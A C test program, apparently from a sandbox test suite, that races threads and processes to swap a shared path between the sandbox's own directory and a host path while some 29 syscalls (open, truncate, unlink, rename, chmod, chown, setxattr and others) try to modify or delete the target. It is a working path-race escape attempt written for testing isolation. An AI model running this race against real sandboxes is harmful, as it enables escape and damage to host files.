/* A path that changes while a call is on its way: a sibling thread, or a process that has the memory too, writes into it all the time, now a path in
 * the box's own directory, now one of the host. Every call that changes what a path names. */
#include "attack.h"

#include <linux/openat2.h>
#include <pthread.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/xattr.h>
#include <utime.h>

#define PATH_SIZE 512

/* All of one length, so that a change half-way is a path too. */
static char *shared;            /* shared: the path that changes */
static char own[PATH_SIZE], theirs[PATH_SIZE], other[PATH_SIZE];
static volatile int *stop;

static void flip_once(const char *to)
{
	for (size_t i = 0; i < PATH_SIZE && (to[i] || shared[i]); i++)
		((volatile char *)shared)[i] = to[i];
}

static void *flip(void *arg)
{
	(void)arg;
	while (!*stop) {
		flip_once(theirs);
		flip_once(own);
	}
	return NULL;
}

static int flip_process(void *arg)
{
	flip(arg);
	return 0;
}

static long by_open(void) { int fd = open(shared, O_WRONLY | O_TRUNC | O_NONBLOCK); if (fd >= 0) { (void)!write(fd, "attack", 6); close(fd); } return fd; }
static long by_create(void) { int fd = open(shared, O_RDWR | O_CREAT | O_TRUNC | O_NONBLOCK, 0777); if (fd >= 0) { (void)!write(fd, "attack", 6); close(fd); } return fd; }
static long by_creat(void) { int fd = creat(shared, 0666); if (fd >= 0) { (void)!write(fd, "attack", 6); close(fd); } return fd; }
static long by_openat2(void)
{
	struct open_how how = { .flags = O_WRONLY | O_TRUNC | O_NONBLOCK };
	int fd = (int)syscall(SYS_openat2, AT_FDCWD, shared, &how, sizeof how);

	if (fd >= 0) {
		(void)!write(fd, "attack", 6);
		close(fd);
	}
	return fd;
}
static long by_path_fd(void)
{
	int fd = open(shared, O_PATH);
	char name[40];

	snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
	long r = chmod(name, 0777);

	r += truncate(name, 0);
	close(fd);
	return r;
}
static long by_truncate(void) { return truncate(shared, 1); }
static long by_unlink(void) { return unlink(shared); }
static long by_unlinkat(void) { return unlinkat(AT_FDCWD, shared, 0); }
static long by_rmdir(void) { return rmdir(shared); }
static long by_rename(void) { return rename(shared, other); }
static long by_rename_over(void) { int fd = creat(other, 0666); close(fd); return rename(other, shared); }
static long by_exchange(void) { int fd = creat(other, 0666); close(fd); return syscall(SYS_renameat2, AT_FDCWD, other, AT_FDCWD, shared, 2); }
static long by_link(void) { unlink(other); return link(shared, other); }
static long by_link_to(void) { unlink(shared); return link(other, shared); }
static long by_symlink(void) { return symlink("attack", shared); }
static long by_mkdir(void) { return mkdir(shared, 0777); }
static long by_mknod(void) { return mknod(shared, S_IFREG | 0666, 0); }
static long by_chmod(void) { return chmod(shared, 0777); }
static long by_fchmodat2(void) { return syscall(SYS_fchmodat2, AT_FDCWD, shared, 0777, 0); }
static long by_chown(void) { return chown(shared, getuid(), getgid() + (getuid() == 0)); }
static long by_lchown(void) { return lchown(shared, getuid(), getgid() + (getuid() == 0)); }
static long by_utime(void) { const struct utimbuf t = { 1, 1 }; return utime(shared, &t); }
static long by_utimes(void) { const struct timeval t[2] = { { 1, 1 }, { 1, 1 } }; return syscall(SYS_utimes, shared, t); }
static long by_utimensat(void) { const struct timespec t[2] = { { 1, 1 }, { 1, 1 } }; return utimensat(AT_FDCWD, shared, t, 0); }
static long by_setxattr(void) { return setxattr(shared, "user.attack", "x", 1, 0); }
static long by_lsetxattr(void) { return lsetxattr(shared, "user.attack", "x", 1, 0); }
static long by_removexattr(void) { return removexattr(shared, "user.note"); }
static long by_chdir(void)
{
	long r = chdir(shared);   /* the host's directory, maybe: what is done from there is looked at anew */

	if (r < 0)
		return r;
	int fd = open("attack", O_WRONLY | O_CREAT, 0666);

	close(fd);
	r += fd + unlink("file");
	return r + chdir("/");
}
static long by_tmpfile(void)
{
	int fd = open(shared, O_TMPFILE | O_RDWR, 0666);

	if (fd < 0)
		return fd;
	long r = linkat(fd, "", AT_FDCWD, shared, AT_EMPTY_PATH);

	close(fd);
	return r;
}

/* want: what the two paths name; 'f' files, 'd' directories, 'n' names that are not there, 'x' files with an xattr */
static const struct {
	const char *name;
	long (*fn)(void);
	char want;
} calls[] = {
	{ "open", by_open, 'f' }, { "open with O_CREAT", by_create, 'n' }, { "creat", by_creat, 'f' }, { "openat2", by_openat2, 'f' },
	{ "O_PATH", by_path_fd, 'f' }, { "truncate", by_truncate, 'f' }, { "unlink", by_unlink, 'f' }, { "unlinkat", by_unlinkat, 'f' },
	{ "rmdir", by_rmdir, 'd' }, { "rename", by_rename, 'f' }, { "rename over", by_rename_over, 'f' }, { "exchange", by_exchange, 'f' },
	{ "link", by_link, 'f' }, { "link to", by_link_to, 'n' }, { "symlink", by_symlink, 'n' }, { "mkdir", by_mkdir, 'n' },
	{ "mknod", by_mknod, 'n' }, { "chmod", by_chmod, 'f' }, { "fchmodat2", by_fchmodat2, 'f' }, { "chown", by_chown, 'f' },
	{ "lchown", by_lchown, 'f' }, { "utime", by_utime, 'f' }, { "utimes", by_utimes, 'f' }, { "utimensat", by_utimensat, 'f' },
	{ "setxattr", by_setxattr, 'x' }, { "lsetxattr", by_lsetxattr, 'x' }, { "removexattr", by_removexattr, 'x' }, { "chdir", by_chdir, 'D' },
	{ "O_TMPFILE", by_tmpfile, 'D' },
};
#define CALLS (sizeof calls / sizeof calls[0])

/* "/aaaa////name": of the same length as the other. */
static void set_paths(const char *dir, char want)
{
	const char *name = want == 'f' ? "file" : want == 'd' ? "dir/sub" : want == 'x' ? "noted" : want == 'D' ? "." : "new-name";
	int n = snprintf(theirs, sizeof theirs, "%s/%s", attack_prey, name);
	int pad = n - (int)strlen(dir) - (int)strlen(name);

	snprintf(own, sizeof own, "%s%.*s%s", dir, pad > 0 ? pad : 1, "////////////////////////////////////////////////////////////////////////////////////////////////", name);
}

static void put(const char *dir)
{
	char path[PATH_SIZE + 16];

	snprintf(path, sizeof path, "%s/dir/sub", dir);
	*strrchr(path, '/') = 0;
	mkdir(path, 0777);
	strcat(path, "/sub");
	mkdir(path, 0777);
	snprintf(path, sizeof path, "%s/noted", dir);
	close(open(path, O_WRONLY | O_CREAT, 0666));
	snprintf(path, sizeof path, "%s/file", dir);
	close(open(path, O_WRONLY | O_CREAT, 0666));
	snprintf(path, sizeof path, "%s/new-name", dir);
	if (unlink(path) < 0)
		rmdir(path);
}

int main(int argc, char **argv)
{
	char dir[64] = "/tmp/attack.XXXXXX", *stack = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	pthread_t thread;

	attack_begin(argc, argv);
	shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	stop = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (!mkdtemp(dir))
		return 1;
	snprintf(other, sizeof other, "%s/other", dir);
	for (size_t i = 0; i < CALLS; i++)
		for (int how = 0; how < 3; how++) {
			double end = attack_now() + attack_seconds / (3 * CALLS);
			pid_t pid = -1;

			set_paths(dir, calls[i].want);
			strcpy(shared, own);
			*stop = 0;
			fflush(stdout);
			if (how == 0)
				pthread_create(&thread, NULL, flip, NULL);
			else if (how == 1)
				pid = clone(flip_process, stack + 65536, CLONE_VM | SIGCHLD, NULL);
			else if ((pid = fork()) == 0)
				_exit(flip_process(NULL));
			do {
				put(dir);
				attack_try(calls[i].name, calls[i].fn());
			} while (attack_now() < end);
			*stop = 1;
			if (how == 0)
				pthread_join(thread, NULL);
			else
				waitpid(pid, NULL, 0);
		}
	snprintf(theirs, sizeof theirs, "rm -rf %s", dir);
	(void)!system(theirs);
	return attack_end();
}
